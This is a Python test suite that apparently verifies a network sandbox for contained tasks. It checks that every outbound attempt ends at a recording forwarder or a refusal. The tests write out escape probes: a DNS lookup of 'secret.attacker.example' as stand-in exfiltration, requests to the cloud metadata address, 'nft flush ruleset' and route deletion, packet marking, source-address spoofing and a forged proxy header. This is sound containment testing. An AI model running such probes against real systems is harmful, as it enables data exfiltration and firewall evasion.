"""Out of the cell by the network: there is no wire, so every try must end at the forwarder, at nothing, or at a refusal.

Each test is a real cell, with its namespace, its rules and a real forwarder; the boundary behind it is a recorder.
"""

from __future__ import annotations

import json
import re
import signal
import socket
import subprocess
import textwrap
from typing import Any

import pytest
from cells_rig import Rig, lines, until
from cells_rig import fresh as fresh
from cells_rig import node as node

from remit.core import flow

_TOOLS = """
import errno, json, os, socket, struct, sys
def reached(host, port, family=socket.AF_INET, kind=socket.SOCK_STREAM, say=b'GET / HTTP/1.0\\r\\n\\r\\n', options=()):
    s = socket.socket(family, kind)
    s.settimeout(5)
    try:
        for option in options:
            s.setsockopt(*option)
        s.connect((host, port))
        s.sendall(say)
        return s.recv(4096).decode(errors='replace') or 'closed'
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
"""
_RESET = "ECONNRESET"
_REFUSED = "ECONNREFUSED"


def _in_cell(node: Rig, script: str) -> str:
    done = node.python(_TOOLS + textwrap.dedent(script))
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode().strip()


def _seen(answer: str) -> dict[str, Any]:
    """What the boundary saw of the connection, out of its answer."""
    return dict(json.loads(answer[answer.index("{") :]))


_ANYWHERE = [
    ("AF_INET", "93.184.216.34", 443, "93.184.216.34"),
    ("AF_INET", "169.254.169.254", 80, "169.254.169.254"),
    ("AF_INET", "100.64.0.1", 15001, "100.64.0.1"),
    ("AF_INET", "10.201.0.53", 853, "10.201.0.53"),
    ("AF_INET6", "2606:2800:220::1", 443, "2606:2800:220::1"),
    ("AF_INET6", "fd00:ec2::254", 80, "fd00:ec2::254"),
    ("AF_INET6", "::ffff:169.254.169.254", 80, "169.254.169.254"),
]


def _each(node: Rig, tries: list[tuple[Any, ...]]) -> list[str]:
    """Answers to `reached(address, port, family, kind)` for each of `tries`, all out of one cell."""
    words = [f"reached({address!r}, {port}, socket.{family}, socket.{kind})" for family, address, port, kind in tries]
    return list(json.loads(_in_cell(node, f"print(json.dumps([{', '.join(words)}]))")))


def test_a_connection_to_anywhere_ends_at_the_boundary_under_its_own_name(node: Rig) -> None:
    answers = _each(node, [(family, address, port, "SOCK_STREAM") for family, address, port, _ in _ANYWHERE])
    seen = [_seen(answer) for answer in answers]
    assert [(one["destination"], one["port"]) for one in seen] == [(where, port) for _, _, port, where in _ANYWHERE]
    cells = {flow.cell_of(one["source"]) for one in seen}
    assert len(cells) == 1
    assert {one["token"] for one in seen} == {f"token-of-{cells.pop()}"}
    assert [":" in one["source"] for one in seen] == [":" in where for _, _, _, where in _ANYWHERE]


def test_the_forwarders_own_ports_cannot_be_dialled(node: Rig) -> None:
    before = len(node.flows())
    addresses = [("AF_INET", one) for one in ("127.0.0.1", "127.8.8.8", "0.0.0.0", "10.201.0.2")]
    addresses += [("AF_INET6", one) for one in ("::1", "::", "fd00:201::2", "::ffff:127.0.0.1")]
    tries = [(*where, port, "SOCK_STREAM") for where in addresses for port in (15001, 15053)]
    assert dict(zip(tries, _each(node, tries), strict=True)) == dict.fromkeys(tries, _REFUSED)
    assert len(node.flows()) == before


def test_no_udp_but_dns_leaves(node: Rig) -> None:
    tries = [("AF_INET", "1.1.1.1", 443), ("AF_INET", "1.1.1.1", 123), ("AF_INET", "10.201.0.53", 5353)]
    tries += [("AF_INET", "224.0.0.251", 5353), ("AF_INET6", "2606:4700::1111", 443), ("AF_INET6", "::1", 15053)]
    tries += [("AF_INET", "127.0.0.1", 15053), ("AF_INET", "255.255.255.255", 67)]
    answers = _each(node, [(*one, "SOCK_DGRAM") for one in tries])
    assert set(answers) <= {"EPERM", "EACCES", _REFUSED}, list(zip(tries, answers, strict=True))


@pytest.mark.parametrize(("family", "address"), [("AF_INET", "8.8.8.8"), ("AF_INET6", "2001:4860:4860::8888")])
@pytest.mark.parametrize("kind", ["SOCK_DGRAM", "SOCK_STREAM"])
def test_a_resolver_of_ones_own_is_the_nodes(node: Rig, family: str, address: str, kind: str) -> None:
    before, flows = len(lines(node.directory / "queries.jsonl")), len(node.flows())
    said = _in_cell(
        node,
        f"""
        name = b''.join(bytes((len(l),)) + l for l in (b'secret', b'attacker', b'example')) + b'\\0'
        query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', 1, 1)
        s = socket.socket(socket.{family}, socket.{kind})
        s.settimeout(5)
        s.connect(({address!r}, 53))
        tcp = s.type == socket.SOCK_STREAM
        s.send((struct.pack('>H', len(query)) if tcp else b'') + query)
        answer = s.recv(4096)[2 if tcp else 0:]
        print(answer[:2] == query[:2], socket.inet_ntoa(answer[-4:]), s.getpeername()[0])
        """,
    )
    assert said == f"True 198.18.7.7 {address}"
    assert [query["name"] for query in lines(node.directory / "queries.jsonl")[before:]] == ["secret.attacker.example."]
    assert len(node.flows()) == flows


_CHANGES = (
    "ip link set lo down",
    "ip link add v0 type veth peer name v1",
    "ip addr add 10.0.0.1/8 dev lo",
    "ip route del default",
    "ip rule add from all lookup 7",
    "nft flush ruleset",
    "nft add table inet mine",
)


def test_the_network_cannot_be_changed_from_inside(node: Rig) -> None:
    tries = " ".join(f"try {change};" for change in _CHANGES)
    done = node.sh('PATH=$PATH:/usr/sbin; try() { "$@" 2>&1 | tr "\\n" " "; echo; }; ' + tries)
    said = done.stdout.decode().splitlines()
    assert len(said) == len(_CHANGES)
    for change, answer in zip(_CHANGES, said, strict=True):
        assert re.search("not permitted|Permission denied", answer), (change, answer)
    assert _seen(_in_cell(node, "print(reached('93.184.216.34', 80))"))["destination"] == "93.184.216.34"


def test_there_is_no_device_but_loopback(node: Rig) -> None:
    assert _in_cell(node, "print(socket.if_nameindex())") == "[(1, 'lo')]"


def test_packets_cannot_be_marked_to_pass_the_rules(node: Rig) -> None:
    assert _in_cell(node, "print(reached('1.1.1.1', 80, options=[(socket.SOL_SOCKET, 36, 1)]))") == "EPERM"


def test_a_source_address_of_another_cell_changes_nothing(node: Rig) -> None:
    """IP_FREEBIND lets anybody bind to an address that the machine does not have."""
    said = _in_cell(
        node,
        """
        s = socket.socket()
        s.settimeout(5)
        s.setsockopt(socket.SOL_IP, 15, 1)
        s.bind(('100.64.0.9', 0))
        try:
            s.connect(('93.184.216.34', 80))
            s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
            print(s.recv(4096).decode())
        except OSError as error:
            print('{"refused": "%s"}' % errno.errorcode.get(error.errno, error))
        """,
    )
    seen = _seen(said)
    assert "refused" in seen or (seen["source"] != "100.64.0.9" and seen["token"] != "token-of-9")


def test_a_proxy_header_of_the_agents_is_only_payload(node: Rig) -> None:
    forged = "b'\\r\\n\\r\\n\\x00\\r\\nQUIT\\n' + b'\\x21\\x11\\x00\\x0c' + bytes(12)"
    seen = _seen(_in_cell(node, f"print(reached('93.184.216.34', 80, say={forged} + b'\\r\\n'))"))
    assert seen["destination"] == "93.184.216.34"
    assert seen["source"] != "0.0.0.0"


def test_a_service_of_the_host_is_out_of_reach(node: Rig) -> None:
    with socket.create_server(("0.0.0.0", 0)) as server:
        server.settimeout(0.2)
        port = server.getsockname()[1]
        assert _in_cell(node, f"print(reached('127.0.0.1', {port}))") == _REFUSED
        host = subprocess.run(
            ["hostname", "-I"], capture_output=True, text=True, timeout=10, check=False
        ).stdout.split()
        for address in [one for one in host if ":" not in one][:1]:
            assert _seen(_in_cell(node, f"print(reached({address!r}, {port}))"))["destination"] == address
        with pytest.raises(TimeoutError):
            server.accept()


def test_a_service_of_another_cell_is_out_of_reach(node: Rig) -> None:
    serving = node.detached(
        "--",
        "/usr/bin/python3",
        "-uc",
        "import socket; s = socket.create_server(('0.0.0.0', 8088)); print('up'); s.accept()",
    )
    try:
        until(lambda: (node.cells_dir / serving / "output.log").read_bytes() == b"up\n", "the other cell to listen")
        for address in ("127.0.0.1", "10.201.0.2"):
            assert _in_cell(node, f"print(reached({address!r}, 8088))") == _REFUSED
        cell = next(cell["cell"] for cell in node.tasks() if cell["task"] == serving)
        source = flow.source(cell)[0]
        assert _seen(_in_cell(node, f"print(reached({source!r}, 8088))"))["destination"] == source
    finally:
        node.ask(op="stop", task=serving, grace_s=0)


def test_a_cells_own_services_work_on_its_own_addresses(node: Rig) -> None:
    said = _in_cell(
        node,
        """
        import threading
        served = socket.create_server(('0.0.0.0', 8080), backlog=8)
        def serve():
            while True:
                s, _ = served.accept()
                s.sendall(b'mine')
                s.close()
        threading.Thread(target=serve, daemon=True).start()
        print(*(reached(a, 8080) for a in ('127.0.0.1', '127.0.0.2', '10.201.0.2')))
        """,
    )
    assert said == "mine mine mine"


def test_a_cut_resets_open_connections_at_once_and_the_next_one_is_a_new_flow(node: Rig) -> None:
    task = node.detached(
        "--",
        "/usr/bin/python3",
        "-uc",
        _TOOLS
        + textwrap.dedent(
            """
            held = []
            for _ in range(20):
                s = socket.create_connection(('93.184.216.34', 80))
                s.sendall(b'hold\\n')
                assert s.recv(5) == b'held\\n'
                held.append(s)
            print('held')
            ends = []
            for s in held:
                try:
                    ends.append('end' if s.recv(1) == b'' else 'data')
                except ConnectionResetError:
                    ends.append('reset')
            print(*sorted(set(ends)))
            print(reached('93.184.216.34', 80)[:12])
            """
        ),
    )
    log = node.cells_dir / task / "output.log"
    until(lambda: b"held" in log.read_bytes(), "twenty connections to stand")
    assert node.ask(op="cut", task=task) == {"event": "done", "closed": 20}
    node.gone(task)
    assert log.read_text().split("\n")[1:3] == ["reset", "HTTP/1.1 200"]


def test_without_a_boundary_a_connection_is_reset_and_a_name_fails_at_once(fresh: Rig) -> None:
    task = fresh.detached(
        "--",
        "/usr/bin/python3",
        "-uc",
        _TOOLS
        + textwrap.dedent(
            """
            import time
            print('up')
            while not os.path.exists('/tmp/go'):
                time.sleep(0.02)
            print(reached('93.184.216.34', 80))
            started = time.monotonic()
            try:
                socket.getaddrinfo('example.com', 80)
            except socket.gaierror as error:
                print(error.errno, time.monotonic() - started < 4)
            """
        ),
    )
    log = fresh.cells_dir / task / "output.log"
    until(lambda: log.exists() and b"up" in log.read_bytes(), "the cell to be up")
    fresh.kill("outside", signal.SIGKILL)
    assert fresh.run(task, "--", "touch", "/tmp/go", verb="exec").returncode == 0
    fresh.gone(task)
    # EAI_AGAIN: the answer was SERVFAIL, not silence.
    assert log.read_text().split("\n")[1:3] == [_RESET, "-3 True"]


def test_no_two_open_connections_of_a_cell_share_a_name(node: Rig) -> None:
    before = len(node.flows())
    _in_cell(
        node,
        """
        held = [socket.create_connection(('93.184.216.34', 80)) for _ in range(300)]
        for s in held:
            s.sendall(b'hold\\n')
        for s in held:
            assert s.recv(5) == b'held\\n'
        """,
    )
    names = [(seen["source"], seen["source_port"]) for seen in node.flows()[before:]]
    assert len(names) == 300 == len(set(names))
    assert len({source for source, _ in names}) == 1
